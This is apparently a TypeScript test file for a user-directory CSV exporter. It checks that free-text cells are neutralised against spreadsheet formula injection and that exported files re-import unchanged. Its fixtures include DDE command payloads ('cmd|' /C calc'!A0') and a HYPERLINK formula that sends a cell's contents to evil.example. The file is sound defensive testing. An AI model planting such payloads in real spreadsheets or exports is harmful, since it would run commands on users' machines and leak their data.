// An export re-imported is all `unchanged` (SPEC §6), also for stored free text that starts with
// quotes before a formula character: the export row goes through the real CSV reader and planner.
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { InMemoryCustomerState } from '../users/in-memory-customer-state.ts';
import { emptyUser, type UserState } from '../users/user-state.ts';
import { EXPORT_HEADERS, neutralizeUploadedCell, templateExampleRow, userToExportRow } from './export-row.ts';
import { TEXT_FIELDS } from '../users/user-fields.ts';
import { unescapeFormulaCell } from './parse-cell.ts';
import { CsvRowPlanner } from './plan-csv-rows.ts';
import { bytesSource, openCsv } from './read-csv.ts';

function storedUser(email: string, text: Partial<UserState>): UserState {
  return {
    ...emptyUser(email),
    packageId: 'webex_meetings',
    basicLicences: { basic_messaging: true, basic_space_meetings: true, calling_from_webex: true },
    ...text,
  };
}

const USERS: UserState[] = [
  storedUser('quoted@example.com', {
    title: "'=x",
    department: "''+1",
    manager: "'''@boss",
    displayName: "'-minus",
  }),
  storedUser('plain@example.com', {
    title: '=SUM(A1)',
    department: '-5',
    manager: '@boss',
    displayName: "'Anna",
  }),
  storedUser('mixed@example.com', { firstName: "O'Brien", lastName: "'", title: "'' =x" }),
];

function customer(): InMemoryCustomerState {
  return new InMemoryCustomerState({
    soldPackages: [{ packageId: 'webex_meetings', limit: null }],
    locations: [],
    numbers: [],
    users: USERS,
    extensionLength: 4,
    defaultPackageTemplate: null,
    autoAssignBasicLicences: true,
    directorySync: false,
    customerFullAdmins: [],
    emailTakenElsewhere: () => false,
  });
}

describe('userToExportRow', () => {
  it('adds one quote to free text that starts with quotes before a formula character', () => {
    const row = userToExportRow(USERS[0]!, { locationName: null, userStatus: 'Active' });
    const cell = (header: string) => row[EXPORT_HEADERS.indexOf(header)];
    expect(cell('Title')).toBe("''=x");
    expect(cell('Department')).toBe("'''+1");
    expect(cell('Manager')).toBe("''''@boss");
    expect(cell('Display Name')).toBe("''-minus");
  });

  it('re-imports as unchanged, stored quotes included', async () => {
    const state = customer();
    const records = USERS.map((user) => userToExportRow(user, { locationName: null, userStatus: 'Active' }));
    const csv = stringify([EXPORT_HEADERS as string[], ...records]);
    const opened = await openCsv(bytesSource(new TextEncoder().encode(csv), 7));
    if (!opened.ok) throw new Error(`file rejected: ${opened.error.code}`);
    const planner = new CsvRowPlanner(opened.columns, 'add-only', state);
    const plans = [];
    for await (const record of opened.records) plans.push(planner.planRecord(record));
    expect(plans.map((plan) => [plan.email, plan.action, plan.plan.changes])).toEqual(
      USERS.map((user) => [user.email, 'unchanged', []]),
    );
  });
});

describe('userToExportRow on every free-text column', () => {
  it('writes no cell a spreadsheet would run as a formula', () => {
    const user = storedUser('=x@example.com', {
      ...Object.fromEntries(
        TEXT_FIELDS.map((field, index) => [field, `${'=+-@'[index % 4]}cmd|' /C calc'!A0`]),
      ),
      phoneNumber: '+31 not e164',
      callerIdNumber: '-1',
    });
    const row = userToExportRow(user, { locationName: '@SUM(1+1)', userStatus: 'Active' });
    expect(row.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  it('the template writes none either, but for its example E.164 number', () => {
    const cells = [...EXPORT_HEADERS, ...templateExampleRow()];
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual(['+31201234501']);
  });
});

describe('neutralizeUploadedCell', () => {
  it.each([
    // [uploaded cell, written back]
    [
      '=HYPERLINK("https://evil.example/?leak="&C3,"Click to fix")',
      `'=HYPERLINK("https://evil.example/?leak="&C3,"Click to fix")`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['-5', "'-5"],
    ['+31 boss', "'+31 boss"],
    ['+31201234501', '+31201234501'],
    ["'+31201234501", '+31201234501'],
    ["'=already neutralized", "'=already neutralized"],
    ["''=stored quote", "''=stored quote"],
    ["'Anna", "'Anna"],
    ['Anna', 'Anna'],
    ['', ''],
  ])('%j is written as %j', (cell, expected) => {
    expect(neutralizeUploadedCell(cell)).toBe(expected);
  });

  it.each(['=x', "'=x", "''=x", '@a', '-', '+3120', "'", 'plain', '+31201234501'])(
    '%j uploaded again is read as the first upload read it',
    (cell) => {
      expect(unescapeFormulaCell(neutralizeUploadedCell(cell))).toBe(unescapeFormulaCell(cell));
    },
  );
});
